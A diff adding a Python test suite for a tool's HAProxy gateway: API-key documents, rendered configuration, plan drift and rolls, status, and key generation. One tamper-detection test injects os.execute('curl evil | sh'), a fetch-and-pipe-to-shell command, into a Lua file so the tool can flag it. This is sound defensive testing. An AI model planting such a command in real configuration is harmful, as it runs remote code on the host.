@@ -1,0 +1,245 @@
+"""The gateway's pure core: ApiKey documents, the rendered HAProxy configuration and maps, the gateway in a plan
+(create, no-op, drift, interim servers during a roll, removal), the replicas' units behind a gateway, status."""
+
+from __future__ import annotations
+
+from engine_ctl.state.model import DeploymentRecord, GatewayRecord, ReplicaRecord, State
+
+from engine_ctl.cli.planview import plan_text
+from engine_ctl.core.documents.apikey import key_document, key_sha256, parse_expiry
+from engine_ctl.core.documents.inventory import Host, Inventory
+from engine_ctl.core.documents.loader import load_documents
+from engine_ctl.core.documents.yamlsource import parse_text
+from engine_ctl.core.fit.hostfacts import HostFacts, UnitFact
+from engine_ctl.core.fit.modelfacts import ModelFacts
+from engine_ctl.core.model import ApiKey
+from engine_ctl.core.plan.gateway import gateway_after_apply, gateway_tampering, plan_gateways
+from engine_ctl.core.plan.planner import make_plan
+from engine_ctl.core.plan.status import deployment_status
+from engine_ctl.core.render.gateway import (
+    BODY_LIMIT,
+    BUFSIZE,
+    GATEWAY_UNIT,
+    GatewayBackend,
+    GatewayServer,
+    key_maps,
+    render_gateway,
+)
+from tests.fleetfacts import gpu_host
+from tests.helpers import run
+
+SHA = key_sha256("ak-example")
+SHAPE = {"m": ModelFacts(block_count=2, head_count=4, head_count_kv=4, embedding_length=64, weights_bytes=17_000_000)}
+MODEL = "kind: Model\nmetadata: {name: m}\nspec: {format: gguf, path: m/m.gguf, parameters: 4170048}\n"
+
+
+def load(text: str):  # type: ignore[no-untyped-def]
+    docs, problems = parse_text(text, "keys.yaml")
+    assert not problems
+    return load_documents(docs)
+
+
+def test_an_api_key_document_holds_the_hash_scope_and_expiry() -> None:
+    text = key_document("ci-bot", SHA, ["chat"], "2027-01-31")
+    result = load(text)
+    assert not result.diagnostics
+    (key,) = result.desired.api_keys
+    assert (key.name, key.sha256, key.deployments) == ("ci-bot", SHA, ("chat",))
+    assert key.expires == parse_expiry("2027-01-31") == 1801353600
+
+
+def test_bad_api_key_documents_name_their_fields() -> None:
+    bad = "kind: ApiKey\nmetadata: {name: Bot}\nspec: {sha256: ak-plaintext, expires: someday}\n"
+    messages = [(d.field, str(d.location)) for d in load(bad).diagnostics]
+    assert ("metadata.name", "keys.yaml:2:18") in messages
+    assert ("spec.sha256", "keys.yaml:3:16") in messages
+    assert ("spec.expires", "keys.yaml:3:39") in messages
+    twice = key_document("a", SHA) + "---\n" + key_document("b", SHA)
+    assert any("the same key as ApiKey 'a'" in d.message for d in load(twice).diagnostics)
+
+
+def gateway_host(name: str = "edge-01", port: int = 8800) -> Host:
+    return Host(name=name, address="10.0.0.2", roles=("gateway",), gateway_port=port)
+
+
+def test_the_configuration_routes_on_model_with_the_seeds_balancing_and_checks() -> None:
+    backends = [GatewayBackend(deployment="chat", servers=(GatewayServer(name="r0a", address="10.0.0.5", port=8000,
+                                                                          maxconn=4),))]  # fmt: skip
+    g = render_gateway(gateway_host(), backends, [ApiKey(name="k", sha256=SHA)])
+    cfg = g.files["haproxy.cfg"]
+    assert f"tune.bufsize {BUFSIZE}" in cfg and f"gt {BODY_LIMIT}" in cfg and "json_query('$.model')" in cfg
+    assert "balance leastconn" in cfg and "server r0a 10.0.0.5:8000 maxconn 4" in cfg
+    assert "check inter 5s" in cfg and "fall 3" in cfg and "option httpchk GET /health" in cfg
+    assert "retries 3" in cfg and "option redispatch 1" in cfg and "bind *:8800" in cfg
+    assert "timeout connect 3s" in cfg
+    assert g.files["keys.map"] == f"{SHA} k\n" and g.files["models.map"] == "chat d_chat\n"
+    assert "ak-example" not in "".join(g.files.values())
+    assert "HOLD_MS = 120000" in g.files["hold.lua"]
+    assert "ExecStart=/usr/sbin/haproxy -Ws -f ${CONFIG}" in g.unit_text
+    assert "ExecReload=/bin/kill -USR2 $MAINPID" in g.unit_text
+
+
+def test_a_key_change_needs_no_reload_but_a_replica_change_does() -> None:
+    server = GatewayServer(name="r0a", address="10.0.0.5", port=8000, maxconn=2)
+    one = render_gateway(gateway_host(), [GatewayBackend(deployment="chat", servers=(server,))], [])
+    keyed = render_gateway(gateway_host(), [GatewayBackend(deployment="chat", servers=(server,))],
+                           [ApiKey(name="k", sha256=SHA)])  # fmt: skip
+    moved = server.model_copy(update={"port": 8001})
+    other = render_gateway(gateway_host(), [GatewayBackend(deployment="chat", servers=(moved,))], [])
+    assert one.reload_sha256 == keyed.reload_sha256 and one.file_sha256 != keyed.file_sha256
+    assert one.reload_sha256 != other.reload_sha256
+
+
+def test_key_scopes_and_expiry_maps() -> None:
+    keys = [ApiKey(name="all", sha256="a" * 64), ApiKey(name="one", sha256="b" * 64, deployments=("chat",),
+                                                         expires=1800000000)]  # fmt: skip
+    maps = key_maps(keys, ["chat", "embed"])
+    assert maps["scopes.map"] == {"all/chat": "1", "all/embed": "1", "one/chat": "1"}
+    assert maps["expires.map"] == {"one": "1800000000"}
+
+
+def cpu_host(name: str, address: str) -> HostFacts:
+    return gpu_host(name, [], cores=8, memory_gib=32).model_copy(update={"haproxy_version": "HAProxy version 2.6"})
+
+
+def world() -> tuple[Inventory, dict[str, HostFacts]]:
+    inv = Inventory(
+        hosts=(
+            Host(name="edge", address="10.0.0.2", roles=("gateway",), models_dir="/srv/models"),
+            Host(name="cpu-1", address="10.0.0.5", models_dir="/srv/models"),
+        )
+    )
+    return inv, {"edge": cpu_host("edge", "10.0.0.2"), "cpu-1": cpu_host("cpu-1", "10.0.0.5")}
+
+
+def desired(context: int = 512):  # type: ignore[no-untyped-def]
+    text = (
+        MODEL
+        + "---\nmetadata: {name: chat}\n"
+        + f"spec: {{model: m, accelerator: cpu, host: cpu-1, context_length: {context}}}\n"
+    )
+    return load(text + "---\n" + key_document("k", SHA)).desired
+
+
+def applied(plan, facts):  # type: ignore[no-untyped-def]
+    """What a successful apply records (replicas, gateway) and what the hosts then have."""
+    state = State()
+    units = []
+    for c in plan.changes:
+        rec = DeploymentRecord(name=c.name, revision=c.revision, spec=c.spec, model=c.model, spec_hash=c.spec_hash,
+                               plan=c.fit, state="Ready")  # fmt: skip
+        for r in c.replicas:
+            rec.replicas.append(ReplicaRecord(index=r.index, slot=r.slot, host=r.host, unit=r.unit, port=r.port,
+                                              unit_sha256=r.unit_sha256 or "", revision=r.revision, argv=r.argv,
+                                              status="serving"))  # fmt: skip
+            units.append(UnitFact(name=r.unit, sha256=r.unit_sha256, active_state="active", sub_state="running"))
+        state.deployments[c.name] = rec
+    inv, _ = world()
+    facts = dict(facts)
+    facts["cpu-1"] = facts["cpu-1"].model_copy(update={"units": tuple(units)})
+    for g in plan.gateways:
+        final = gateway_after_apply(inv.host(g.host), state, {h.name: h for h in inv.hosts}, g)  # type: ignore[arg-type]
+        state.gateways[g.host] = GatewayRecord(
+            endpoint=g.endpoint, files_sha256=final.file_sha256, unit_sha256=final.unit_sha256,
+            config=final.files["haproxy.cfg"],
+        )  # fmt: skip
+        facts[g.host] = facts[g.host].model_copy(update={
+            "gateway_files": final.file_sha256,
+            "units": (UnitFact(name=GATEWAY_UNIT, sha256=final.unit_sha256, active_state="active"),),
+            "gateway_servers": {"d_chat/r0a": "UP"},
+        })  # fmt: skip
+    return state, facts
+
+
+def test_a_new_gateway_is_planned_with_its_configuration_and_then_nothing_changes() -> None:
+    inv, facts = world()
+    plan = make_plan(desired(), State(), inv, facts, SHAPE)
+    (g,) = plan.gateways
+    assert g.action == ["create"] and g.endpoint == "10.0.0.2:8800"
+    assert "server r0a 10.0.0.5:" in g.files["haproxy.cfg"]
+    assert g.interim_files is not None and " disabled" in g.interim_files["haproxy.cfg"]
+    text = plan_text(plan)
+    assert '+ gateway "edge" {' in text and "+    balance leastconn" in text
+    assert "Plan: 2 to add, 0 to change, 0 to destroy." in text
+    (chat,) = plan.changes
+    (replica,) = chat.replicas
+    assert "--host" in replica.argv and replica.argv[replica.argv.index("--host") + 1] == "10.0.0.5"
+    assert "--api-key-file" in replica.argv
+    assert replica.unit_text is not None
+    assert "IPAddressDeny=any\nIPAddressAllow=localhost 10.0.0.2 10.0.0.5\n" in replica.unit_text
+    assert "LoadCredential=replica-key:/etc/engine-ctl/replica-key" in replica.unit_text
+    state, after = applied(plan, facts)
+    again = make_plan(desired(), state, inv, after, SHAPE)
+    assert [g.action for g in again.gateways] == [["no-op"]] and not again.has_changes, plan_text(again)
+
+
+def test_a_hand_edit_is_drift_and_a_roll_plans_the_interim_servers() -> None:
+    inv, facts = world()
+    state, after = applied(make_plan(desired(), State(), inv, facts, SHAPE), facts)
+    edited = dict(after)
+    files = dict(after["edge"].gateway_files or {})
+    files["haproxy.cfg"] = "0" * 64
+    edited["edge"] = after["edge"].model_copy(update={"gateway_files": files})
+    plan = make_plan(desired(), state, inv, edited, SHAPE)
+    assert [d.detail.split(" (")[0] for d in plan.drift] == ["gateway file haproxy.cfg edited by hand on edge"]
+    assert plan.gateways[0].action == ["update"] and plan.has_changes
+    rolled = make_plan(desired(1024), state, inv, after, SHAPE)
+    (g,) = rolled.gateways
+    assert g.action == ["update"] and g.interim_files is not None
+    interim = g.interim_files["haproxy.cfg"]
+    assert "server r0a 10.0.0.5:" in interim and " disabled" in interim  # old serving, new in maintenance
+    assert "server r0b" not in g.files["haproxy.cfg"] or "server r0a" not in g.files["haproxy.cfg"]
+
+
+def test_a_gateway_host_leaving_the_inventory_is_removed() -> None:
+    inv, facts = world()
+    state, after = applied(make_plan(desired(), State(), inv, facts, SHAPE), facts)
+    without = Inventory(hosts=tuple(h.model_copy(update={"roles": ()}) for h in inv.hosts))
+    changes, _ = plan_gateways([], state, without, after, [])
+    assert [(c.host, c.action) for c in changes] == [("edge", ["delete"])]
+
+
+def test_status_gives_the_endpoint_and_members_as_the_gateway_sees_them() -> None:
+    inv, facts = world()
+    state, after = applied(make_plan(desired(), State(), inv, facts, SHAPE), facts)
+    after["cpu-1"] = after["cpu-1"].model_copy(
+        update={"health": {str(state.deployments["chat"].replicas[0].port): "200"}}
+    )
+    status = deployment_status(state.deployments["chat"], after, [("edge", "10.0.0.2:8800")])
+    assert status.gateways == ["http://10.0.0.2:8800"] and status.served_model_name == "chat"
+    assert status.endpoint is not None and status.endpoint.external == "10.0.0.2:8800"
+    assert status.kind == "chat" and [m.ready for m in status.members] == [True]
+    down = dict(after)
+    down["edge"] = after["edge"].model_copy(update={"gateway_servers": {"d_chat/r0a": "DOWN"}})
+    assert [m.ready for m in deployment_status(state.deployments["chat"], down, [("edge", "e:8800")]).members] == [
+        False
+    ]
+
+
+def test_a_saved_plan_with_an_edited_gateway_is_refused() -> None:
+    inv, facts = world()
+    plan = make_plan(desired(), State(), inv, facts, SHAPE)
+    assert gateway_tampering(plan.gateways, plan.changes, State(), inv) == []
+    forged = plan.model_copy(deep=True)
+    forged.gateways[0].files["hold.lua"] += "\nos.execute('curl evil | sh')\n"
+    forged.gateways[0].files["keys.map"] += "x y z\n"
+    problems = gateway_tampering(forged.gateways, forged.changes, State(), inv)
+    assert problems == [
+        "gateway edge: hold.lua differs from what engine-ctl renders",
+        "gateway edge: keys.map holds something other than names and hashes",
+    ]
+
+
+def test_key_new_prints_the_key_once_and_a_document_with_its_hash_only() -> None:
+    result = run("key", "new", "ci-bot", "--deployment", "chat", "--expires", "2027-01-31")
+    assert result.exit_code == 0, result.output
+    (key,) = [w for w in result.stderr.split() if w.startswith("ak-")]
+    assert len(key) >= 3 + 43  # 256 bits, base64url
+    assert key not in result.stdout
+    loaded = load(result.stdout)
+    assert not loaded.diagnostics
+    (doc,) = loaded.desired.api_keys
+    assert (doc.name, doc.sha256, doc.deployments) == ("ci-bot", key_sha256(key), ("chat",))
+    assert run("key", "new", "ci-bot").stderr != result.stderr  # a new random key each time
+    bad = run("key", "new", "Bad Name")
+    assert bad.exit_code == 1 and "lowercase letters" in bad.output
